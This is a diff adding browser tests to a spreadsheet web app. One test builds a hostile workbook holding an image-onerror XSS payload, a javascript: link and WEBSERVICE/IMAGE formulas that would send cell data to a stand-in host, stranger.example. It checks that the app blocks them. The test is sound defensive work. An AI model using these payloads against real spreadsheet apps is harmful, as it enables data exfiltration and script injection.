@@ -255,3 +255,63 @@ inBrowser("what was not saved is offered after the page was closed, with its cha
   await page.getByRole("button", { name: "Forget these files" }).click();
   await page.locator("#files").waitFor({ state: "hidden" });
 });
+
+testWhere("a browser")(
+  "hostile workbooks are harmless: 200 sheets, HTML, formulas that would fetch, a damaged file",
+  async () => {
+    if (browser === undefined || served === undefined) throw new Error("The page was not built.");
+    const { page, errors, strangers } = await openWorkbench(browser, served.address);
+    const blocked: string[] = [];
+    page.on("requestfailed", (request) => void (request.failure()?.errorText === "csp" && blocked.push(request.url())));
+    const html = "&lt;img src=x onerror=alert(1)&gt;";
+    const formulas = [
+      'WEBSERVICE("https://stranger.example/"&amp;B1)',
+      'HYPERLINK("javascript:alert(1)","press"&amp;B1)',
+      'IMAGE("https://stranger.example/x.png"&amp;B1)',
+    ];
+    const cells = formulas.map((formula, index) => `<row r="${index + 2}"><c r="A${index + 2}" t="str"><f>${formula}</f><v>${html}</v></c></row>`).join("");
+    const many = Array.from({ length: 200 }, (_, index) => ({
+      name: index === 0 ? html : `Sheet ${index}`,
+      rows: `<row r="1"><c r="A1" t="inlineStr"><is><t>${html}</t></is></c><c r="B1"><v>${index}</v></c></row>${index === 0 ? cells : ""}`,
+    }));
+    const original = await workbook({ sheets: many });
+    const asked: string[] = [];
+    page.on("dialog", (dialog) => void (asked.push(dialog.message()), dialog.dismiss()));
+    await openFile(page, "hostile.xlsx", original);
+    await page.getByText("hostile.xlsx", { exact: true }).waitFor();
+    await page.waitForTimeout(1000);
+    expect(await page.locator("[data-u-comp=slide-tab-bar] [role=tab]").count()).toBe(200);
+    expect(Buffer.compare(await saved(page), original)).toBe(0);
+
+    // Every formula there is calculated anew. The grid would ask for the picture of one, which the page's policy keeps from being asked.
+    await enter(page, "B1", "7");
+    await page.getByText("hostile.xlsx (not saved)").waitFor();
+    await page.waitForTimeout(1000);
+    expect(await page.locator("#grid img[src], #grid iframe, #grid script, #pane img[src=x]").count()).toBe(0);
+
+    await openFile(page, "cut.xlsx", original.subarray(0, Math.floor(original.length / 2)));
+    await page.locator("#refused:not([hidden])").waitFor();
+    expect(await page.locator("#file").textContent()).toBe("hostile.xlsx (not saved)");
+    expect(asked).toEqual([]);
+    expect(strangers).toEqual(blocked);
+    expect(errors.filter((error) => !/violates the following Content Security Policy.*has been blocked/.test(error))).toEqual([]);
+    await page.context().close();
+  },
+  180_000,
+);
+
+inBrowser(
+  "a formula that fills several cells says what the file keeps of it, and the plan's own are there in a file as Excel spells them",
+  async ({ page }) => {
+    const row = (number: number): string => `<row r="${number}"><c r="A${number}"><v>10</v></c><c r="B${number}"><v>${number}</v></c></row>`;
+    await openFile(page, "own.xlsx", await workbook({ sheets: [{ name: "Own", rows: row(1) + row(2) }] }));
+    await page.getByText("own.xlsx", { exact: true }).waitFor();
+    await enter(page, "D1", '=BENEFIT_VARIANCE(A1:A2,B1:B2,"Decrease")');
+    await page.getByText("The formula in D1 fills several cells here; the file keeps it in D1 alone.").waitFor();
+    await enter(page, "E1", "=LET(x,A1,x/3)");
+    await page.waitForTimeout(1500);
+    const xml = (await openPackage(await saved(page))).text("xl/worksheets/sheet1.xml") ?? "";
+    expect(xml).toContain('<f>_xldudf_BENEFIT_VARIANCE(A1:A2,B1:B2,"Decrease")</f><v>9</v>');
+    expect(xml).toContain("<f>_xlfn.LET(_xlpm.x,A1,_xlpm.x/3)</f><v>3.3333333333333335</v>");
+  },
+);
